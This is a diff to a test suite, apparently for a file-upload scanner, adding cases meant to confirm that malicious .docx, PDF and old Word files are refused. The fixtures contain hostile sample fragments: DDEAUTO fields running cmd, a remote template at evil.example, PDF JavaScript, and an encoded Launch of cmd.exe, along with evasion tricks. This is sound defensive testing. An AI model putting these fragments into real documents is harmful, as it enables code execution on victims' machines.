@@ -41,6 +41,16 @@ describe('a .docx', () => {
         '<x:fldChar x:fldCharType="begin"/><x:instrText> DD</x:instrText><x:r/><x:instrText>&#69; "cmd"</x:instrText>',
       ),
     ],
+    [
+      'a DDE field around another',
+      part(
+        '<x:fldChar x:fldCharType="begin"/><x:fldChar x:fldCharType="begin"/><x:instrText>SET a ""</x:instrText><x:fldChar x:fldCharType="end"/><x:instrText>DDEAUTO c:\\\\cmd</x:instrText>',
+      ),
+    ],
+    [
+      'a template of another computer under capitals',
+      { ...relation('attachedTemplate', 'https://evil.example/t.dotm'), name: 'word/_rels/settings.xml.RELS' },
+    ],
     ['a DDE field in UTF-16', part(Buffer.from('\ufeff<w:fldSimple w:instr="DDE c"/>', 'utf16le'))],
     ['a click that starts a program', part('<a:hlinkClick action="ppaction://program"/>')],
     ['a workbook with programs', part(makeZip([part('<ddeLink/>', 'xl/x.xml')]), 'word/embeddings/x.xlsx')],
@@ -110,6 +120,8 @@ describe('a PDF', () => {
     ['an attached file of two names', makePdf('<</EF<</F 5 0 R>>/F(cv.xml)/F(cv.hta)>>')],
     ['an attached file whose name is elsewhere', makePdf('<</EF<</F 5 0 R>>/F 6 0 R>>')],
     ['a form with scripts', makePdf('<</AcroForm<</XFA 5 0 R>>>>')],
+    ['a script behind a stray character', makePdf('<< > /S /JavaScript /JS (app.alert) >>')],
+    ['a start of a program in an object that is broken', makePdf('<</Type/Action{/S/L#61unch/F(cmd.exe)>>')],
     ['a script in an object stream', packed('<</S/JavaScript>>')],
     ['a script in an object that hides in a stream', makePdf('<<>>stream\n7 0 obj<</JS(x)>>endobj\nendstream')],
   ])('with %s is refused', async (_what, bytes) => {
@@ -132,6 +144,7 @@ describe('a PDF', () => {
   test.each([
     ['is encrypted', makePdf('<</Type/XRef/Encrypt 9 0 R>>')],
     ['has damaged object streams', makePdf('<</First 4/Filter/FlateDecode>>stream\nnothing')],
+    ['hides its objects behind a stray character', makePdf('<< ) /Type/ObjStm/N 1/First 4>>stream\nx')],
     ['packs objects as nobody does', packed('<<>>', '/DecodeParms<</Predictor 12>>')],
     ['unpacks to more than four megabytes', packed(' '.repeat(5 * 1024 * 1024))],
     ['would be read for ever', makePdf('obj (('.repeat(100_000))],
@@ -166,6 +179,7 @@ describe('a document of Word or PowerPoint up to 2003', () => {
     ['a file in a package', makeOle(['WordDocument', '\u0001Ole10Native'])],
     ['an object', makeOle(['WordDocument', '\u0003ObjInfo'])],
     ['an equation', makeOle(['WordDocument', 'Equation Native'])],
+    ['an equation in capitals', makeOle(['WordDocument', 'EQUATION NATIVE'])],
     ['a DDE field', Buffer.concat([documents.doc, Buffer.from('\u0013 DDEAUTO cmd')])],
     ['a DDE field of two bytes a character', Buffer.concat([documents.doc, Buffer.from('\u0013DDE c', 'utf16le')])],
   ])('with %s is refused', async (_what, bytes) => {
